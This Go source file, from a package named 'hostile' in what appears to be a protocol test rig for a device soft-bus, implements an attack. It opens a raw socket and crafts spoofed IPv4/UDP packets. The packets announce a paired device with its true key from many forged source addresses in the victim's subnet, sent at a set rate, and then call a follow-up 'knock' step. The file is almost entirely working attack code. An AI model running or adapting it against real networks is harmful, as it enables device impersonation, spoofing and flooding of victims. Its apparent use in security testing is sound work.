package hostile

import (
	"context"
	"encoding/binary"
	"fmt"
	"net/netip"
	"time"

	"dsoftbus-rig/nodes/device"
	"dsoftbus-rig/protocol/nxsb"

	"golang.org/x/sys/unix"
)

const (
	// firstHost and hosts are the last bytes of the source addresses that
	// everywhere uses: those of the victim's /24 that no machine of the rig has.
	firstHost, hosts = 100, 150
	firstPort        = 1024
	ipHeader         = 20
	udpHeader        = 8
)

// everywhere announces a device that the victim is paired with, with its true
// key, from a new endpoint each time: no two announces have both the source
// address and the session port. It needs raw sockets, which root has.
func everywhere(ctx context.Context, r *request) (string, error) {
	a := r.trueAnnounce()
	if !r.udp.Addr().Is4() {
		return "", fmt.Errorf("%s is no IPv4 address", r.udp.Addr())
	}
	raw, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return "", fmt.Errorf("open a raw socket: %w", err)
	}
	defer unix.Close(raw)
	to := &unix.SockaddrInet4{Addr: r.udp.Addr().As4()}
	sent := 0
	begin := time.Now()
	for n := range r.count {
		source := r.udp.Addr().As4()
		source[3] = byte(firstHost + n%hosts)
		a.Port = uint16(firstPort + n/hosts)
		payload, err := nxsb.Append(nil, a)
		if err != nil {
			return "", err
		}
		if unix.Sendto(raw, datagramFrom(netip.AddrPortFrom(netip.AddrFrom4(source), announcePort), r.udp, payload), 0, to) == nil {
			sent++
		}
		if ahead := time.Duration(n)*time.Second/time.Duration(r.rate) - time.Since(begin); ahead > 0 && !wait(ctx, ahead) {
			return "", context.Cause(ctx)
		}
	}
	if sent < r.count/2 {
		return "", fmt.Errorf("only %d of %d announces left this machine", sent, r.count)
	}
	took := time.Since(begin)
	return fmt.Sprintf("announces=%d as=%s per_second=%.0f", r.count, r.as, float64(sent)/took.Seconds()), r.knock(ctx)
}

// trueAnnounce returns what the device named by -as announces, but for the port.
func (r *request) trueAnnounce() nxsb.Announce {
	a := nxsb.Announce{DeviceID: r.as, Services: []string{device.ServicePackageFS}}
	for _, p := range r.pairings {
		if p.ID == r.as {
			a.Key = p.Key
		}
	}
	return a
}

// datagramFrom returns an IPv4 packet with a UDP datagram. The kernel fills in
// the packet's checksum; the datagram has none, which IPv4 allows.
func datagramFrom(from, to netip.AddrPort, payload []byte) []byte {
	const ttl = 64
	source, target := from.Addr().As4(), to.Addr().As4()
	b := make([]byte, ipHeader+udpHeader, ipHeader+udpHeader+len(payload))
	b[0] = 4<<4 | ipHeader/4
	binary.BigEndian.PutUint16(b[2:], uint16(ipHeader+udpHeader+len(payload)))
	b[8], b[9] = ttl, unix.IPPROTO_UDP
	copy(b[12:], source[:])
	copy(b[16:], target[:])
	udp := b[ipHeader:]
	binary.BigEndian.PutUint16(udp, from.Port())
	binary.BigEndian.PutUint16(udp[2:], to.Port())
	binary.BigEndian.PutUint16(udp[4:], uint16(udpHeader+len(payload)))
	return append(b, payload...)
}
